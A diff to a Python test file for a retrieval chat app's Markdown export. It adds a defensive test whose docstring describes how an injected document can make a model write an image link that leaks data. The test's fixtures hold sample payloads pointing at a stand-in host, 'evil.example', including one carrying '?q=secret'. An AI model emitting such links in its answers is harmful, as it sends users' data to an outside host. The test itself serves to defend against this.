@@ -5,6 +5,8 @@ from __future__ import annotations
 import threading
 from pathlib import Path
 
+from markdown_it import MarkdownIt
+
 from rag.conversations import Conversation, ConversationStore, file_name, title_for, to_markdown
 
 
@@ -98,6 +100,19 @@ def test_titles_are_short_and_cut_at_a_word() -> None:
     assert file_name("What is 2/3 of <x>?") == "What is 23 of x.md"
 
 
+def test_markdown_export_fetches_nothing_when_opened_elsewhere() -> None:
+    """A document can make a model write an image link that leaks to another host; the export keeps it inert."""
+    chat = Conversation(id="x", title="![t](http://evil.example/t)", messages=[
+        {"role": "user", "kind": "question", "content": "<img src=http://evil.example/q>"},
+        {"role": "assistant", "kind": "answer", "content": "See ![x](http://evil.example/?q=secret) [1].",
+         "answer": {"citations": [{"n": 1, "source": "a.md", "page": None, "text": "[y](http://evil.example/p)"}]}},
+    ])
+    text = to_markdown(chat)
+    html = MarkdownIt("commonmark").render(text)  # as a Markdown viewer shows the file (markdown-it: via rich)
+    assert "<img" not in html and "<a " not in html and "evil.example" in html, html
+    assert "See [image: x] [1]." in text
+
+
 def test_markdown_export_has_questions_answers_and_sources() -> None:
     chat = Conversation(id="x", title="Freedonia", created_at="2025-01-02T03:04:05.000000+00:00", messages=[
         {"role": "assistant", "kind": "upload", "content": ":material/attach_file: **Documents: 1 added**"},
@@ -110,6 +125,6 @@ def test_markdown_export_has_questions_answers_and_sources() -> None:
     assert text.startswith("# Freedonia\n")
     assert "**Documents: 1 added**" in text and ":material/" not in text
     assert "## Question\n\nWhat is the capital of Freedonia?\n\n### Answer\n\nFredville [1]." in text
-    assert "[1] **atlas.pdf, page 2**\n\n> Passage about What is the capital of Freedonia?" in text
+    assert "\\[1\\] **atlas.pdf, page 2**\n\n> Passage about What is the capital of Freedonia?" in text
     assert "*Not found in your documents.*" in text and "#### Closest passages" in text
     assert "> The ferry leaves at seven." in text and "notes.txt**" in text
